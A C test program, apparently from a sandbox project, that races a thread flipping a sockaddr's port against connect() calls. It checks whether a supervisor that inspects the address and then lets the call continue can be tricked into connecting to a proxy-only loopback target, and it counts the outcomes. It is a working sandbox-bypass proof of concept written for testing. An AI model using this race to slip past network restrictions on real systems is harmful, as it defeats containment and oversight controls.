/* llnet_race: connect's address is in the caller's memory, so another
 * thread can rewrite it while the call waits for the supervisor (a
 * check-then-continue supervisor would check one address and let the
 * kernel connect another). One thread flips the port between the proxy's
 * (from http_proxy) and argv[1] (a server on the same loopback address,
 * reachable only through the proxy) while the main thread connects,
 * argv[2] times. It prints how many connects reached each peer (by
 * getpeername) and how many failed. */
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <unistd.h>
static struct sockaddr_in a;
static volatile int stop;
static unsigned short ports[2];
static void *flip(void *arg) {
  (void)arg;
  for (unsigned long i = 0; !stop; i++) {
    *(volatile unsigned short *)&a.sin_port = ports[i & 1];
  }
  return NULL;
}
int main(int argc, char **argv) {
  const char *proxy = getenv("http_proxy");
  if (argc != 3 || !proxy || !strrchr(proxy, ':')) { fprintf(stderr, "usage: llnet_race PORT N (with http_proxy set)\n"); return 2; }
  ports[0] = htons(atoi(strrchr(proxy, ':') + 1));
  ports[1] = htons(atoi(argv[1]));
  int n = atoi(argv[2]);
  a.sin_family = AF_INET; a.sin_port = ports[0]; a.sin_addr.s_addr = htonl(0x7f000001);
  pthread_t th;
  pthread_create(&th, NULL, flip, NULL);
  int toProxy = 0, toTarget = 0, failed = 0;
  for (int i = 0; i < n; i++) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) { failed++; close(s); continue; }
    struct sockaddr_in peer; socklen_t len = sizeof peer;
    getpeername(s, (struct sockaddr *)&peer, &len);
    if (peer.sin_port == ports[1]) toTarget++; else if (peer.sin_port == ports[0]) toProxy++;
    close(s);
  }
  stop = 1;
  pthread_join(th, NULL);
  printf("race proxy=%d target=%d failed=%d\n", toProxy, toTarget, failed);
  return 0;
}
